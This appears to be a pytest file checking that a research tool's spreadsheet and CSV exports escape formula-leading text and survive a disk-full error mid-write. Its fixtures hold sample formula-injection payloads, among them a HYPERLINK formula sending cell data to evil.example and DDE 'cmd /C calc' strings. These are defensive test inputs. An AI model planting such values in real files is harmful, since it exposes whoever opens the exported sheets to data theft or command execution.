"""Exports never make user text a spreadsheet formula; a failed export keeps the old file."""

from __future__ import annotations

import csv
import errno
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook
from report_helpers import LEAD, SECOND, Study

from workbench.core.errors import DiskFullError
from workbench.core.export_files import FORMULA_LEADS, csv_cell
from workbench.core.reports import (
    SegmentFilter,
    attribute_matrix,
    code_cooccurrence,
    code_frequencies,
    load_report_data,
    retrieve,
    write_csv,
    write_retrieval_docx,
    write_retrieval_xlsx,
    write_xlsx,
)
from workbench.core.teamwork import agreement, write_agreement

EVIL_CODE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
EVIL_VALUE = "+cmd|' /C calc'!A0"
EVIL_CASE = "@SUM(1+1)*cmd|' /C calc'!A0"
EVIL_SOURCE = "-2+3+cmd|' /C calc'!A0"


@pytest.fixture
def hostile(study: Study) -> Study:
    p = study.project
    p.codebook.rename(code=study.codes["X"], name=EVIL_CODE, coder=LEAD)
    p.codebook.rename(code=study.codes["T"], name="=1+1", coder=LEAD)
    p.cases.set_value(
        scope="case", item=study.cases["Ann"], attribute="role", value=EVIL_VALUE, coder=LEAD
    )
    p.cases.rename(case=study.cases["Bob"], name=EVIL_CASE, coder=LEAD)
    p.sources.rename(source=study.sources["A"], name=EVIL_SOURCE, coder=LEAD)
    return study


def _assert_no_formula(path: Path) -> list[str]:
    """No cell of the workbook is a formula; returns every string cell."""
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    strings = []
    for sheet in load_workbook(path).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    strings.append(cell.value)
    return strings


def _is_number(field: str) -> bool:
    try:
        float(field)
    except ValueError:
        return False
    return True


def _assert_csv_escaped(path: Path, encoding: str = "utf-8-sig") -> list[str]:
    with path.open(encoding=encoding, newline="") as fh:
        fields = [field for row in csv.reader(fh) for field in row]
    for field in fields:
        assert not field.startswith(FORMULA_LEADS) or _is_number(field), field
    return fields


def test_every_xlsx_export_writes_user_text_as_text(hostile: Study, tmp_path: Path) -> None:
    data = load_report_data(hostile.project)
    tables = [
        code_frequencies(data),
        code_cooccurrence(data, depth=2),
        attribute_matrix(data, "role"),
    ]
    strings = _assert_no_formula(write_xlsx(tables, tmp_path / "tables.xlsx"))
    assert EVIL_CODE in strings and "=1+1" in strings
    assert f"{EVIL_VALUE} (n=1)" in strings
    segments = retrieve(hostile.project, SegmentFilter())
    strings = _assert_no_formula(write_retrieval_xlsx(segments, tmp_path / "segments.xlsx"))
    assert any(s.startswith("=1+1/C/=HYPERLINK") for s in strings)
    assert EVIL_SOURCE in strings and any(EVIL_CASE in s for s in strings)
    hostile.project.sources.set_done(source=hostile.sources["A"], coder=LEAD)
    hostile.project.sources.set_done(source=hostile.sources["A"], coder=SECOND)
    report = agreement(hostile.project, coders=[LEAD, SECOND])
    strings = _assert_no_formula(write_agreement(report, tmp_path / "agreement.xlsx"))
    assert any(s.startswith("=1+1/C/=HYPERLINK") for s in strings)


def test_every_csv_export_escapes_formula_leads(hostile: Study, tmp_path: Path) -> None:
    data = load_report_data(hostile.project)
    for table in (
        code_frequencies(data),
        code_cooccurrence(data, depth=2),
        attribute_matrix(data, "role"),
    ):
        fields = _assert_csv_escaped(write_csv(table, tmp_path / f"{table.kind}.csv"))
        assert "'" + EVIL_CODE in fields or any(f.endswith(EVIL_CODE) for f in fields)
    matrix = _assert_csv_escaped(tmp_path / "matrix.csv")
    assert f"'{EVIL_VALUE} (n=1)" in matrix
    hostile.project.sources.set_done(source=hostile.sources["A"], coder=LEAD)
    hostile.project.sources.set_done(source=hostile.sources["A"], coder=SECOND)
    report = agreement(hostile.project, coders=[LEAD, SECOND])
    path = write_agreement(report, tmp_path / "agreement.csv")
    fields = _assert_csv_escaped(path, "utf-8")
    assert any(f.startswith("'=1+1/C/=HYPERLINK") for f in fields)


def test_csv_cell_follows_owasp() -> None:
    for lead in ("=", "+", "-", "@", "\t", "\r"):
        assert csv_cell(f"{lead}x") == f"'{lead}x"
    assert csv_cell("Zoom = video") == "Zoom = video"
    assert csv_cell(-3) == -3 and csv_cell(None) == ""


def _half_then_full_disk(path: Any) -> None:
    Path(path).write_bytes(b"PK\x03\x04 half a file")
    raise OSError(errno.ENOSPC, "No space left on device")


def _broken_csv_writer(fh: Any, *args: Any, **kwargs: Any) -> Any:
    fh.write("Code,Cod")
    raise OSError(errno.ENOSPC, "No space left on device")


@pytest.mark.parametrize(
    ("name", "patch", "write"),
    [
        ("t.xlsx", "xlsx", lambda s, p: write_xlsx(code_frequencies(load_report_data(s)), p)),
        ("t.csv", "csv", lambda s, p: write_csv(code_frequencies(load_report_data(s)), p)),
        ("s.xlsx", "xlsx", lambda s, p: write_retrieval_xlsx(retrieve(s, SegmentFilter()), p)),
        ("s.docx", "docx", lambda s, p: write_retrieval_docx(retrieve(s, SegmentFilter()), p)),
        ("a.xlsx", "xlsx", lambda s, p: write_agreement(agreement(s, coders=[LEAD, SECOND]), p)),
        ("a.csv", "csv", lambda s, p: write_agreement(agreement(s, coders=[LEAD, SECOND]), p)),
    ],
)
def test_a_failure_mid_write_keeps_the_previous_file(
    study: Study,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    name: str,
    patch: str,
    write: Callable[[Any, Path], Path],
) -> None:
    out = tmp_path / "out"
    out.mkdir()
    target = out / name
    write(study.project, target)
    good = target.read_bytes()
    if patch == "xlsx":
        monkeypatch.setattr(Workbook, "save", lambda self, path: _half_then_full_disk(path))
    elif patch == "docx":
        from docx.document import Document

        monkeypatch.setattr(Document, "save", lambda self, path: _half_then_full_disk(path))
    else:
        monkeypatch.setattr(csv, "writer", _broken_csv_writer)
    with pytest.raises(DiskFullError, match="not enough disk space"):
        write(study.project, target)
    assert target.read_bytes() == good
    assert sorted(p.name for p in out.iterdir()) == [name]  # nothing half-written left
